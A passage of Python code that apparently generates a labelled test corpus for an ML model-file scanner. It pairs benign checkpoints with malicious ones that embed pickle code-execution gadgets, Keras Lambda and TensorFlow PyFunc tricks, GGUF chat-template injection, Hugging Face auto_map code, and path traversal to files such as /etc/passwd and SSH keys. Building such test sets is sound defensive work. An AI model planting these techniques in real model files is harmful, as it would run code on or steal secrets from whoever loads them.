        _m("pickle", "p2_getattr_import_chain.pkl", "builtins.getattr(builtins.__import__('os'), 'system')",
           pkl_p2_getattr_import(), "MW-PKL-001"),
        _m("pickle", "p2_obj_opcode_subprocess.pkl", "OBJ opcode calls subprocess.call", pkl_p2_obj_subprocess(),
           "MW-PKL-001"),
        _m("pickle", "p2_second_concatenated.pkl", "benign pickle followed by a second pickle with the payload",
           pkl_second_concatenated(), "MW-PKL-001"),
        _m("pickle", "p4_stack_global_memo.pkl", "STACK_GLOBAL with module/name fetched from the memo",
           pkl_p4_stack_global_memo(), "MW-PKL-001"),
        _m("pickle", "p4_builtins_exec.pkl", "builtins.exec of Python source", pkl_p4_builtins_exec(),
           "MW-PKL-001"),
        _m("pickle", "p4_attrgetter_import.pkl", "operator.attrgetter('system') on builtins.__import__('os')",
           pkl_p4_attrgetter_import(), "MW-PKL-001"),
        _m("pickle", "p4_methodcaller_importlib.pkl", "operator.methodcaller on importlib.import_module('os')",
           pkl_p4_methodcaller_importlib(), "MW-PKL-001"),
        _m("pickle", "p4_functools_partial.pkl", "functools.partial(posix.system, 'true') called later",
           pkl_p4_functools_partial(), "MW-PKL-001"),
        _m("pickle", "p4_torch_load_from_bytes.pkl", "torch.storage._load_from_bytes of an embedded payload pickle",
           pkl_p4_torch_load_from_bytes(), "MW-PKL-001"),
        _m("pickle", "p4_numpy_load_reentry.pkl", "numpy.load(..., allow_pickle=True) re-entry",
           pkl_p4_numpy_load(), "MW-PKL-001"),
        _m("pickle", "p5_runpy_run_code.pkl", "runpy._run_code of Python source", pkl_p5_runpy(), "MW-PKL-001"),
        _m("pickle", "p5_pip_main.pkl", "pip.main(['--version']): pip as a code-execution gadget",
           pkl_p5_pip_main(), "MW-PKL-001"),
        _m("pickle", "p5_unknown_module.pkl", "callable from a made-up module (evilcorp_ml.hooks.bootstrap)",
           pkl_p5_unknown_module(), "MW-PKL-002"),
        _m("pickle", "p5_subprocess_check_call.pkl", "protocol 5 subprocess.check_call(['true'])",
           pkl_p5_subprocess_list(), "MW-PKL-001"),
        _b("pickle", "p0_config_dict.pkl", "protocol 0 plain dict/list/str",
           pickle.dumps({"classes": ["cat", "dog"], "threshold": 0.5, "layers": [64, 32]}, protocol=0)),
        _b("pickle", "p2_ordereddict_set.pkl", "protocol 2 OrderedDict, set, tuple",
           pickle.dumps(OrderedDict(vocab={"a", "b"}, shape=(3, 4), lr=1e-3), protocol=2)),
        _b("pickle", "p4_numpy_arrays.pkl", "protocol 4 dict of NumPy arrays (sklearn-style)",
           pickle.dumps({"coef_": np.linspace(0, 1, 12).reshape(3, 4), "intercept_": np.zeros(3),
                         "classes_": np.array([0, 1, 2])}, protocol=4)),
        _b("pickle", "p5_numpy_float_list.pkl", "protocol 5 NumPy array, complex and bytes values",
           pickle.dumps({"embedding": np.ones((4, 4), dtype=np.float16), "scale": complex(1, 2),
                         "tag": b"v1"}, protocol=5)),
    ]


def pytorch_samples() -> list[Sample]:
    torch = _torch()
    benign_zip = torch_save(_state_dict())
    members = _zip_members(benign_zip)
    prefix = next(n for n in members if n.endswith("/data.pkl")).rsplit("/", 1)[0]

    def rebuilt(replace: dict[str, bytes]) -> bytes:
        merged = dict(members)
        merged.update({f"{prefix}/{k}": v for k, v in replace.items()})
        return _zip(merged)

    data_payload = rebuilt({"data.pkl": pkl_p2_posix_system()})
    nn = torch.nn
    whole_model = nn.Sequential(nn.Linear(8, 16), nn.ReLU(), nn.Linear(16, 4))
    return [
        _m("pytorch-zip", "reduce_in_data_pkl.pt", "torch.save of a state dict with a __reduce__ payload object",
           torch_save({"state_dict": _state_dict(), "hook": _os_system_payload()}), "MW-PKL-001"),
        _m("pytorch-zip", "data_pkl_replaced.pt", "data.pkl replaced by a posix.system pickle", data_payload,
           "MW-PKL-001"),
        _m("pytorch-zip", "extra_member_payload.pt", "payload in archive/extra_state.pkl, data.pkl clean",
           rebuilt({"extra_state.pkl": pkl_p4_stack_global_memo()}), "MW-PKL-001"),
        _m("pytorch-zip", "bad_crc_data_pkl.pt", "data.pkl payload with a corrupted CRC (torch ignores it)",
           _patch_zip_member(data_payload, f"{prefix}/data.pkl", bad_crc=True), "MW-PKL-001"),
        _m("pytorch-zip", "encrypted_flag_data_pkl.pt", "data.pkl payload with the zip 'encrypted' flag set",
           _patch_zip_member(data_payload, f"{prefix}/data.pkl", encrypted_flag=True), "MW-PKL-001"),
        _m("pytorch-zip", "pytorch_model_exec.bin", "HF-style pytorch_model.bin whose data.pkl runs builtins.exec",
           rebuilt({"data.pkl": pkl_p4_builtins_exec()}), "MW-PKL-001"),
        _m("pytorch-zip", "load_from_bytes.pt", "torch.storage._load_from_bytes with a nested payload pickle",
           rebuilt({"data.pkl": pkl_p4_torch_load_from_bytes()}), "MW-PKL-001"),
        _b("pytorch-zip", "state_dict.pt", "torch.save(state_dict)", benign_zip),
        _b("pytorch-zip", "training_checkpoint.pth", "torch.save of model+optimizer state, epoch, metrics",
           torch_save({"model": _state_dict(2), "optimizer": {"state": {}, "param_groups": [
               {"lr": 0.01, "momentum": 0.9, "params": [0, 1, 2, 3]}]}, "epoch": 12, "best_acc": 0.91})),
        _b("pytorch-zip", "whole_module.pt", "torch.save of a whole nn.Sequential module", torch_save(whole_model)),
        _b("pytorch-zip", "tensor_list.bin", "torch.save of a list of tensors (HF-style .bin)",
           torch_save([torch.ones(3, 3), torch.arange(6, dtype=torch.int64)])),
    ]


def pytorch_legacy_samples() -> list[Sample]:
    benign = torch_save(_state_dict(), legacy=True)
    # Legacy layout (torch/serialization.py _legacy_save): magic, protocol, sys_info, object, storage keys.
    pieces, raw = _split_pickles(benign, 5)

    def with_piece(index: int, payload: bytes) -> bytes:
        replaced = list(pieces)
        replaced[index] = payload
        return b"".join(replaced) + raw

    return [
        _m("pytorch-legacy", "reduce_in_object.pt", "legacy torch.save with a __reduce__ payload object",
           torch_save({"state_dict": _state_dict(), "hook": _os_system_payload()}, legacy=True), "MW-PKL-001"),
        _m("pytorch-legacy", "sys_info_payload.pt", "sys_info pickle (3rd of 5) replaced by the payload",
           with_piece(2, pkl_p2_posix_system()), "MW-PKL-001"),
        _m("pytorch-legacy", "magic_replaced.pt", "magic-number pickle replaced by the payload",
           with_piece(0, pkl_p2_getattr_import()), "MW-PKL-001"),
        _m("pytorch-legacy", "storage_keys_payload.pt", "storage-keys pickle (5th) replaced by the payload",
           with_piece(4, pkl_p2_obj_subprocess()), "MW-PKL-001"),
        _b("pytorch-legacy", "state_dict_legacy.pt", "torch.save(..., _use_new_zipfile_serialization=False)",
           benign),
        _b("pytorch-legacy", "checkpoint_legacy.pth", "legacy checkpoint with nested dicts and ints",
           torch_save({"model": _state_dict(2), "epoch": 3, "args": {"lr": 0.1, "arch": "tiny"}}, legacy=True)),
    ]


def torchscript_samples() -> list[Sample]:
    torch = _torch()
    scripted = _scripted_module(read_file=False)
    benign = torchscript_bytes(scripted)
    members = _zip_members(benign)
    prefix = next(n for n in members if n.endswith("/data.pkl")).rsplit("/", 1)[0]

    def rebuilt(replace: dict[str, bytes]) -> bytes:
        merged = dict(members)
        merged.update({f"{prefix}/{k}": v for k, v in replace.items()})
        return _zip(merged)

    traced = torch.jit.trace(_tiny_net().eval(), torch.zeros(1, 8))
    return [
        _m("torchscript", "extra_files_payload.pt", "torch.jit.save(_extra_files={'hook.pkl': payload})",
           torchscript_bytes(scripted, {"hook.pkl": pkl_p2_posix_system()}), "MW-PKL-001"),
        _m("torchscript", "from_file_read.pt", "scripted forward() reads /etc/hostname with torch.from_file",
           torchscript_bytes(_scripted_module(read_file=True)), "MW-TORCH-001"),
        _m("torchscript", "data_pkl_replaced.pt", "TorchScript archive whose data.pkl is a payload pickle",
           rebuilt({"data.pkl": pkl_p4_stack_global_memo()}), "MW-PKL-001"),
        _m("torchscript", "constants_pkl_replaced.pt", "TorchScript constants.pkl replaced by a payload pickle",
           rebuilt({"constants.pkl": pkl_p2_posix_system()}), "MW-PKL-001"),
        _b("torchscript", "scripted.pt", "torch.jit.script of a small MLP", benign),
        _b("torchscript", "traced.pt", "torch.jit.trace of a small MLP", torchscript_bytes(traced)),
    ]


def joblib_samples() -> list[Sample]:
    import runpy
    import subprocess

    import numpy as np

    rng = np.random.default_rng(0)
    estimator = {"coef_": rng.normal(size=(3, 4)), "intercept_": np.zeros(3), "classes_": np.array(["a", "b", "c"]),
                 "n_features_in_": 4, "params": {"C": 1.0, "penalty": "l2"}}
    obj_array = np.empty(1, dtype=object)
    obj_array[0] = _os_system_payload()
    return [
        _m("joblib", "reduce_payload.joblib", "joblib.dump of an estimator dict holding a __reduce__ payload",
           joblib_bytes({**estimator, "hook": _os_system_payload()}), "MW-PKL-001"),
        _m("joblib", "object_array_payload.joblib", "object ndarray: joblib writes a second inline pickle",
           joblib_bytes({"weights": np.ones(4), "extra": obj_array}), "MW-PKL-001"),
        _m("joblib", "functools_partial.joblib", "hand-written functools.partial payload named .joblib",
           pkl_p4_functools_partial(), "MW-PKL-001"),
        _m("joblib-compressed", "zlib_payload.joblib", "joblib compress=('zlib', 3), os.system payload",
           joblib_bytes({**estimator, "hook": _os_system_payload()}, ("zlib", 3)), "MW-PKL-001"),
        _m("joblib-compressed", "gzip_payload.joblib", "joblib compress=('gzip', 3), builtins.exec payload",
           joblib_bytes({**estimator, "hook": ReducePayload(exec, f"import os; os.system('{CMD}')")},
                        ("gzip", 3)), "MW-PKL-001"),
        _m("joblib-compressed", "bz2_payload.joblib", "joblib compress=('bz2', 3), subprocess.call payload",
           joblib_bytes({**estimator, "hook": ReducePayload(subprocess.call, CMD)}, ("bz2", 3)), "MW-PKL-001"),
        _m("joblib-compressed", "xz_payload.joblib", "joblib compress=('xz', 3), runpy._run_code payload",
           joblib_bytes({**estimator, "hook": ReducePayload(runpy._run_code, f"import os; os.system('{CMD}')",
                                                             {})}, ("xz", 3)), "MW-PKL-001"),
        _m("joblib-compressed", "lzma_payload.joblib", "joblib compress=('lzma', 3), os.system payload",
           joblib_bytes({**estimator, "hook": _os_system_payload()}, ("lzma", 3)), "MW-PKL-001"),
        _m("joblib-compressed", "gzip_unknown_module.pkl.gz", "gzip-compressed pickle calling a made-up module",
           gzip.compress(pkl_p5_unknown_module(), mtime=0), "MW-PKL-002"),
        _b("joblib", "estimator.joblib", "joblib.dump of an sklearn-style estimator dict", joblib_bytes(estimator)),
        _b("joblib", "array_list.joblib", "joblib.dump of a list of arrays",
           joblib_bytes([np.arange(10, dtype=np.int32), rng.normal(size=(5, 5))])),
        _b("joblib-compressed", "estimator_zlib.joblib", "joblib compress=3 (zlib)", joblib_bytes(estimator, 3)),
        _b("joblib-compressed", "estimator_lzma.joblib", "joblib compress=('lzma', 3)",
           joblib_bytes(estimator, ("lzma", 3))),
        _b("joblib-compressed", "arrays_bz2.pkl.bz2", "bz2-compressed pickle of arrays",
           bz2.compress(pickle.dumps({"mean": np.zeros(4), "std": np.ones(4)}, protocol=4))),
    ]


def numpy_samples() -> list[Sample]:
    import subprocess

    import numpy as np

    obj_payload = np.empty(2, dtype=object)
    obj_payload[0], obj_payload[1] = "label", _os_system_payload()
    obj_subprocess = np.empty(1, dtype=object)
    obj_subprocess[0] = ReducePayload(subprocess.call, CMD)
    strings = np.array(["cat", "dog", "bird"], dtype=object)
    structured = np.zeros(4, dtype=[("id", "<i4"), ("score", "<f8")])
    return [
        _m("npy", "object_p0_os_system.npy", "object-dtype .npy v1.0 whose data is a protocol 0 payload",
           npy_header("|O", (1,)) + pkl_p0_os_system(), "MW-PKL-001"),
        _m("npy", "np_save_reduce.npy", "np.save of an object array holding a __reduce__ payload",
           npy_bytes(obj_payload), "MW-PKL-001"),
        _m("npy", "v2_stack_global.npy", "format 2.0 header, memo STACK_GLOBAL payload",
           npy_header("|O", (1,), (2, 0)) + pkl_p4_stack_global_memo(), "MW-PKL-001"),
        _m("npy", "v3_getattr_chain.npy", "format 3.0 header, getattr/__import__ chain",
           npy_header("|O", (1,), (3, 0)) + pkl_p2_getattr_import(), "MW-PKL-001"),
        _m("npz", "savez_object_member.npz", "np.savez with an object member holding a payload",
           npz_bytes(False, weights=np.ones(4, dtype=np.float32), extra=obj_payload), "MW-PKL-001"),
        _m("npz", "savez_compressed_object.npz", "np.savez_compressed with a subprocess payload member",
           npz_bytes(True, weights=np.ones(4, dtype=np.float32), extra=obj_subprocess), "MW-PKL-001"),
        _m("npz", "raw_pickle_member.npz", "npz member bias.npy that is a raw pickle, not .npy",
           _zip({"weights.npy": npy_bytes(np.ones(3, dtype=np.float32)), "bias.npy": pkl_p4_builtins_exec()}),
           "MW-PKL-001"),
        _b("npy", "float32_matrix.npy", "np.save float32 matrix", npy_bytes(np.ones((16, 16), dtype=np.float32))),
        _b("npy", "structured.npy", "np.save structured dtype", npy_bytes(structured)),
        _b("npy", "object_strings.npy", "object array of plain strings (pickle of builtins only)",
           npy_bytes(strings)),
        _b("npz", "savez.npz", "np.savez of two arrays",
           npz_bytes(False, w=np.ones((4, 4), dtype=np.float32), b=np.zeros(4, dtype=np.float32))),
        _b("npz", "savez_compressed.npz", "np.savez_compressed of embeddings",
           npz_bytes(True, emb=np.linspace(0, 1, 64, dtype=np.float32).reshape(8, 8))),
    ]


def keras_samples() -> list[Sample]:
    weights = {"layers/dense/vars/0": (8, 4), "layers/dense/vars/1": (4,)}
    nested = _k3_sequential("inner", [_k3_lambda_marshal("scale")])
    functional = {"module": "keras", "class_name": "Functional", "registered_name": None,
                  "config": {"name": "outer", "trainable": True,
                             "layers": [_k3_layer("InputLayer", {"batch_shape": [None, 8], "name": "in"}),
                                        nested, _k3_dense("head", 4)],
                             "input_layers": [["in", 0, 0]], "output_layers": [["head", 0, 0]]}}
    function_by_name = _k3_layer("Lambda", {"name": "shell", "function": {
        "module": "os", "class_name": "function", "config": "system", "registered_name": "function"},
        "arguments": {}})
    outside_module = _k3_layer("Dense", {"name": "dense", "units": 4, "kernel_initializer": {
        "module": "subprocess", "class_name": "Popen", "config": {"args": [CMD]}, "registered_name": None}})
    k2_weights = {"dense/dense/kernel:0": (8, 4), "dense/dense/bias:0": (4,)}
    k2_input = _k2_layer("InputLayer", {"batch_input_shape": [None, 8], "dtype": "float32", "name": "input_1"})
    return [
        _m("keras", "lambda_sequential.keras", "Keras 3 Sequential with a marshalled-bytecode Lambda layer",
           keras_archive(_k3_sequential("seq", [_k3_dense("dense", 4), _k3_lambda_marshal("post")]), weights),
           "MW-KERAS-001"),
        _m("keras", "lambda_nested_functional.keras", "Lambda inside a Sequential nested in a Functional model",
           keras_archive(functional, weights), "MW-KERAS-001"),
        _m("keras", "lambda_function_by_name.keras", "Lambda whose function is os.system referenced by name",
           keras_archive(_k3_sequential("seq", [function_by_name]), weights), "MW-KERAS-001"),
        _m("keras", "initializer_subprocess.keras", "layer config names subprocess.Popen as an initializer",
           keras_archive(_k3_sequential("seq", [outside_module]), weights), "MW-KERAS-002"),
        _b("keras", "dense_sequential.keras", "Keras 3 Sequential of Dense layers",
           keras_archive(_k3_sequential("seq", [_k3_dense("dense", 16), _k3_dense("dense_1", 4)]), weights)),
        _b("keras", "dropout_normalization.keras", "Dense, Dropout, BatchNormalization",
           keras_archive(_k3_sequential("seq", [
               _k3_dense("dense", 16), _k3_layer("Dropout", {"name": "dropout", "rate": 0.2}),
               _k3_layer("BatchNormalization", {"name": "bn", "axis": -1, "momentum": 0.99}),
               _k3_dense("out", 2)]), weights)),
        _m("keras-h5", "lambda_sequential.h5", "tf.keras 2 HDF5 with a Lambda layer in model_config",
           keras_h5(_k2_model("Sequential", [k2_input, _k2_dense("dense", 4), _k2_lambda("lambda")]), k2_weights),
           "MW-KERAS-001"),
        _m("keras-h5", "lambda_functional.h5", "tf.keras 2 Functional model with a Lambda layer",
           keras_h5(_k2_model("Functional", [k2_input, {**_k2_lambda("lambda"), "name": "lambda",
                                                        "inbound_nodes": [[["input_1", 0, 0, {}]]]}]), {}),
           "MW-KERAS-001"),
        _m("keras-h5", "custom_module_layer.h5", "layer class imported from a made-up module",
           keras_h5(_k2_model("Sequential", [k2_input, {"class_name": "Backdoor", "module": "evilcorp_ml.layers",
                                                        "config": {"name": "backdoor"}}]), {}),
           "MW-KERAS-002"),
        _b("keras-h5", "dense_sequential.h5", "tf.keras 2 HDF5 Sequential of Dense layers",
           keras_h5(_k2_model("Sequential", [k2_input, _k2_dense("dense", 4)]), k2_weights)),
        _b("keras-h5", "conv_functional.h5", "tf.keras 2 HDF5 Functional Conv2D/Flatten/Dense",
           keras_h5(_k2_model("Functional", [
               _k2_layer("InputLayer", {"batch_input_shape": [None, 8, 8, 1], "name": "img"}),
               _k2_layer("Conv2D", {"name": "conv", "filters": 4, "kernel_size": [3, 3], "activation": "relu"}),
               _k2_layer("Flatten", {"name": "flatten"}), _k2_dense("dense", 2)]),
               {"conv/conv/kernel:0": (3, 3, 1, 4)})),
    ]


def tensorflow_samples() -> list[Sample]:
    t_float = _pf(6, DT_FLOAT)
    pyfunc_attrs = _attr("token", _pf(2, "pyfunc_0")) + _attr("Tin", _pf(1, _pf(6, DT_FLOAT))) \
        + _attr("Tout", _pf(1, _pf(6, DT_FLOAT)))
    read_file = [*_dense_graph(), _node("secret/path", "Const", attrs=_attr("dtype", _pf(6, DT_STRING))),
                 _node("secret/ReadFile", "ReadFile", ("secret/path",))]
    write_fn = [_node("path", "Const", attrs=_attr("dtype", _pf(6, DT_STRING))),
                _node("WriteFile", "WriteFile", ("path", "contents"))]
    keras_lambda = {"class_name": "Lambda", "name": "lambda", "config": {
        "name": "lambda", "function": {"class_name": "__tuple__", "items": [_lambda_code_b64(), None, None]},
        "function_type": "lambda"}}
    return [
        _m("tf-savedmodel", "readfile_graph", "ReadFile op in the main graph",
           _savedmodel_folder(_saved_model(read_file)), "MW-TF-001"),
        _m("tf-savedmodel", "writefile_function", "WriteFile op inside a tf.function library function",
           _savedmodel_folder(_saved_model(_dense_graph(), [("__inference_serve_42", write_fn)])), "MW-TF-001"),
        _m("tf-savedmodel", "pyfunc_graph", "PyFunc op (runs a Python callable) in the main graph",
           _savedmodel_folder(_saved_model([*_dense_graph(), _node("py", "PyFunc", ("x",), pyfunc_attrs)])),
           "MW-TF-002"),
        _m("tf-savedmodel", "eager_pyfunc_function", "EagerPyFunc inside a library function",
           _savedmodel_folder(_saved_model(_dense_graph(), [("__inference_call_7", [
               _node("x", "Placeholder", attrs=_attr("dtype", t_float)),
               _node("py", "EagerPyFunc", ("x",), pyfunc_attrs)])])), "MW-TF-002"),
        _m("tf-savedmodel", "keras_metadata_lambda", "tf.keras SavedModel whose keras_metadata.pb has a Lambda",
           {**_savedmodel_folder(_saved_model(_dense_graph())), "keras_metadata.pb": _keras_metadata([
               {"class_name": "Dense", "name": "dense", "config": {"name": "dense", "units": 4}}, keras_lambda])},
           "MW-KERAS-001"),
        _b("tf-savedmodel", "dense_with_saver", "MatMul/Relu graph plus the standard SaveV2/RestoreV2 saver",
           _savedmodel_folder(_saved_model([*_dense_graph(), *_saver_nodes()]))),
        _b("tf-savedmodel", "function_library", "serving function in the library (StatefulPartitionedCall)",
           _savedmodel_folder(_saved_model(
               [_node("serving_default_x", "Placeholder", attrs=_attr("dtype", t_float)),
                _node("StatefulPartitionedCall", "StatefulPartitionedCall", ("serving_default_x",)),
                *_saver_nodes()],
               [("__inference_serve_11", _dense_graph())]))),
    ]


def onnx_samples() -> list[Sample]:
    import numpy as np

    weights = np.full((4, 2), 0.5, dtype=np.float32).tobytes()
    return [
        _m("onnx", "external_data_traversal.onnx", "initializer external data '../../etc/passwd'",
           onnx_model("../../etc/passwd"), "MW-ONNX-001"),
        _m("onnx", "external_data_absolute.onnx", "initializer external data '/etc/passwd' (absolute)",
           onnx_model("/etc/passwd"), "MW-ONNX-001"),
        _m("onnx", "constant_attr_traversal.onnx", "Constant node attribute tensor with '../' external data",
           onnx_model("../../../home/user/.ssh/id_rsa", where="constant"), "MW-ONNX-001"),
        _m("onnx", "subgraph_traversal.onnx", "initializer inside an If subgraph pointing outside the folder",
           onnx_model("../../../../proc/self/environ", where="subgraph"), "MW-ONNX-001"),
        _b("onnx", "inline_gemm.onnx", "Gemm model with inline initializers", onnx_model(None)),
        _b("onnx", "external_data_relative", "model.onnx with external data in weights.bin beside it",
           {"model.onnx": onnx_model("weights.bin"), "weights.bin": weights}),
    ]


def gguf_samples() -> list[Sample]:
    return [
        _m("gguf", "ssti_cycler_popen.gguf", "chat_template reaches os.popen via cycler.__init__.__globals__",
           gguf_file(_gguf_meta(CHATML_TEMPLATE + _SSTI_CYCLER)), "MW-GGUF-001"),
        _m("gguf", "ssti_self_builtins.gguf", "chat_template imports os through self.__init__.__globals__",
           gguf_file(_gguf_meta(LLAMA3_TEMPLATE + _SSTI_BUILTINS)), "MW-GGUF-001"),
        _m("gguf", "ssti_subclasses.gguf", "chat_template walks ''.__class__.__mro__[1].__subclasses__()",
           gguf_file(_gguf_meta(_SSTI_SUBCLASSES + CHATML_TEMPLATE)), "MW-GGUF-001"),
        _m("gguf", "ssti_named_template.gguf", "payload in a named template (tokenizer.chat_template.tool_use)",
           gguf_file(_gguf_meta(LLAMA3_TEMPLATE, **{"tokenizer.chat_templates": ["tool_use"],
                                                     "tokenizer.chat_template.tool_use": _SSTI_LIPSUM})),
           "MW-GGUF-001"),
        _m("gguf", "hostile_kv_count.gguf", "header claims 2^62 metadata entries (loader heap overflow bait)",
           gguf_file(_gguf_meta(LLAMA3_TEMPLATE), n_kv_override=1 << 62), "MW-GGUF-002"),
        _b("gguf", "llama3_template.gguf", "Llama 3 Instruct chat template", gguf_file(_gguf_meta(LLAMA3_TEMPLATE))),
        _b("gguf", "chatml_template.gguf", "ChatML (Qwen) chat template", gguf_file(_gguf_meta(CHATML_TEMPLATE))),
        _b("gguf", "mistral_template.gguf", "Mistral template with raise_exception",
           gguf_file(_gguf_meta(MISTRAL_TEMPLATE))),
    ]


def safetensors_samples() -> list[Sample]:
    import numpy as np

    header = {"w": {"dtype": "F32", "shape": [4, 4], "data_offsets": [0, 64]}}
    return [
        _m("safetensors", "header_length_overflow.safetensors", "header length field far beyond the file size",
           _safetensors_raw(header, b"\x00" * 64, length_override=1 << 40), "MW-ST-001"),
        _m("safetensors", "offsets_out_of_bounds.safetensors", "tensor data_offsets point past the end of file",
           _safetensors_raw({"w": {"dtype": "F32", "shape": [1024, 1024], "data_offsets": [0, 4194304]}},
                            b"\x00" * 64), "MW-ST-001"),
        _m("safetensors", "pickle_misnamed.safetensors", "a pickle payload named model.safetensors",
           pkl_p4_stack_global_memo(), "MW-PKL-001"),
        _m("safetensors", "torch_zip_misnamed.safetensors", "a torch zip with a payload named .safetensors",
           torch_save({"w": _torch().ones(2), "hook": _os_system_payload()}), "MW-PKL-001"),
        _b("safetensors", "model.safetensors", "safetensors.numpy.save_file with metadata",
           safetensors_bytes({"embed.weight": np.ones((16, 8), dtype=np.float32),
                              "lm_head.weight": np.zeros((8, 16), dtype=np.float32)}, {"format": "pt"})),
        _b("safetensors", "mixed_dtypes.safetensors", "F16, I64 and BOOL tensors",
           safetensors_bytes({"a": np.ones(8, dtype=np.float16), "ids": np.arange(4, dtype=np.int64),
                              "mask": np.array([True, False])})),
    ]


def archive_samples() -> list[Sample]:
    import numpy as np

    inner = _zip({"model/model.pkl": pkl_p0_os_system()})
    malicious_torch = torch_save({"state_dict": _state_dict(), "hook": _os_system_payload()})
    benign_torch = torch_save(_state_dict())
    st = safetensors_bytes({"w": np.ones((4, 4), dtype=np.float32)})
    return [
        _m("archive", "zip_in_zip_pickle.zip", "pickle payload inside a zip inside a zip",
           _zip({"release/inner.zip": inner, "README.md": b"# model release\n"}), "MW-PKL-001"),
        _m("archive", "targz_torch_checkpoint.tar.gz", "tar.gz holding a torch checkpoint with a payload",
           _tar({"checkpoint/pytorch_model.bin": malicious_torch, "checkpoint/config.json": _hf_config("gpt2")},
                "w:gz"), "MW-PKL-001"),
        _m("archive", "zip_path_traversal.zip", "member '../../../tmp/mlwarden-bench.sh' escapes the folder",
           _zip({"model.safetensors": st, "../../../tmp/mlwarden-bench.sh": f"#!/bin/sh\n{ECHO}\n".encode()}),
           "MW-ARC-001"),
        _m("archive", "tar_symlink.tar", "tar with model.bin as a symlink to /etc/passwd",
           _tar({"config.json": _hf_config("bert")}, links={"model.bin": "/etc/passwd"}), "MW-ARC-002"),
        _m("archive", "tar_joblib_payload.tar", "plain tar holding a joblib pickle with a payload",
           _tar({"pipeline/model.joblib": pkl_p4_attrgetter_import()}), "MW-PKL-001"),
        _b("archive", "release_bundle.zip", "zip of safetensors weights, config and README",
           _zip({"model.safetensors": st, "config.json": _hf_config("bert"), "README.md": b"# tiny bert\n"},
                zipfile.ZIP_DEFLATED)),
        _b("archive", "nested_stored.zip", "zip that stores (no compression) another zip of weights",
           _zip({"bundle/weights.zip": _zip({"model.safetensors": st}), "bundle/README.md": b"# weights\n"})),
        _b("archive", "checkpoint.tar.gz", "tar.gz of a benign torch checkpoint and config",
           _tar({"ckpt/pytorch_model.bin": benign_torch, "ckpt/config.json": _hf_config("gpt2")}, "w:gz")),
    ]


def hf_samples() -> list[Sample]:
    import numpy as np

    st = safetensors_bytes({"embeddings.weight": np.ones((64, 16), dtype=np.float32)}, {"format": "pt"})
    return [
        _m("hf-folder", "auto_map_os_system", "config.json auto_map -> modeling_bench.py running os.system",
           {"config.json": _hf_config("bert", {"AutoModel": "modeling_bench.BenchModel"}),
            "modeling_bench.py": _MODELING_OS_SYSTEM.encode(), "model.safetensors": st}, "MW-HF-001"),
        _m("hf-folder", "tokenizer_auto_map", "tokenizer_config.json auto_map -> tokenizer code with subprocess",
           {"config.json": _hf_config("bert"), "model.safetensors": st,
            "tokenizer_config.json": json.dumps({"tokenizer_class": "BenchTokenizer", "auto_map": {
                "AutoTokenizer": ["tokenization_bench.BenchTokenizer", None]}}).encode(),
            "tokenization_bench.py": _TOKENIZER_SUBPROCESS.encode()}, "MW-HF-001"),
        _m("hf-folder", "auto_map_exec_base64", "auto_map -> configuration code exec()ing a base64 blob",
           {"config.json": _hf_config("bert", {"AutoConfig": "configuration_bench.BenchConfig"}),
            "configuration_bench.py": _CONFIG_EXEC_B64.encode(), "model.safetensors": st}, "MW-HF-001"),
        _b("hf-folder", "bert_safetensors", "config.json, tokenizer.json, model.safetensors",
           {"config.json": _hf_config("bert"), "tokenizer.json": _TOKENIZER_JSON, "model.safetensors": st,
            "special_tokens_map.json": json.dumps({"unk_token": "[UNK]"}).encode()}),
        _b("hf-folder", "gpt2_pytorch_bin", "config.json, generation_config.json, pytorch_model.bin",
           {"config.json": _hf_config("gpt2"), "pytorch_model.bin": torch_save(_state_dict()),
            "generation_config.json": json.dumps({"do_sample": False, "max_new_tokens": 32}).encode()}),
    ]


SAMPLE_BUILDERS: tuple[Callable[[], list[Sample]], ...] = (
    pickle_samples, pytorch_samples, pytorch_legacy_samples, torchscript_samples, joblib_samples, numpy_samples,
    keras_samples, tensorflow_samples, onnx_samples, gguf_samples, safetensors_samples, archive_samples,
    hf_samples,
)


def all_samples() -> list[Sample]:
    samples = [s for build in SAMPLE_BUILDERS for s in build()]
    ids = [s.sample_id for s in samples]
    duplicates = {i for i in ids if ids.count(i) > 1}
    if duplicates:
        raise ValueError(f"duplicate sample ids: {sorted(duplicates)}")
    unknown = {s.fmt for s in samples} - set(FORMATS)
    if unknown:
        raise ValueError(f"samples use formats outside FORMATS: {sorted(unknown)}")
    return samples


def _manifest_entry(sample: Sample) -> dict[str, Any]:
    return {"id": sample.sample_id, "path": sample.sample_id, "kind": "dir" if sample.folder else "file",
            "format": sample.fmt, "label": sample.label, "technique": sample.technique,
            "expected_rule": sample.expected_rule}


def build_corpus(out: Path = DEFAULT_OUT, *, force: bool = False) -> dict[str, Any]:
    """Write every sample under ``out`` and return the manifest. Reuses a complete corpus of this version."""
    manifest_path = out / "manifest.json"
    if not force and manifest_path.is_file():
        manifest = json.loads(manifest_path.read_text())
        if manifest.get("corpus_version") == CORPUS_VERSION and all(
                (out / entry["path"]).exists() for entry in manifest["samples"]):
            return manifest
    started = time.perf_counter()
    samples = all_samples()
    if out.exists():
        shutil.rmtree(out)
    for sample in samples:
        base = out / sample.label / sample.fmt
        if sample.folder:
            base = base / sample.name
        for rel, data in sample.files.items():
            path = base / rel
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)
    manifest = {
        "corpus_version": CORPUS_VERSION,
        "formats": list(FORMATS),
        "counts": {label: sum(1 for s in samples if s.label == label) for label in (MALICIOUS, BENIGN)},
        "build_seconds": round(time.perf_counter() - started, 2),
        "samples": [_manifest_entry(s) for s in samples],
    }
    manifest_path.write_text(json.dumps(manifest, indent=2) + "\n")
    return manifest


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, default=DEFAULT_OUT, help="corpus folder (default: %(default)s)")
    parser.add_argument("--force", action="store_true", help="rebuild even if a current corpus exists")
    args = parser.parse_args(argv)
    manifest = build_corpus(args.out, force=args.force)
    by_format: dict[str, list[int]] = {}
    for entry in manifest["samples"]:
        counts = by_format.setdefault(entry["format"], [0, 0])
        counts[0 if entry["label"] == MALICIOUS else 1] += 1
    print(f"corpus at {args.out}: {manifest['counts'][MALICIOUS]} malicious, {manifest['counts'][BENIGN]} benign, "
          f"{len(by_format)} formats (built in {manifest['build_seconds']} s)")
    for fmt in FORMATS:
        mal, ben = by_format.get(fmt, [0, 0])
        print(f"  {fmt:18} {mal:3} malicious {ben:3} benign")
    return 0


if __name__ == "__main__":
    sys.exit(main())
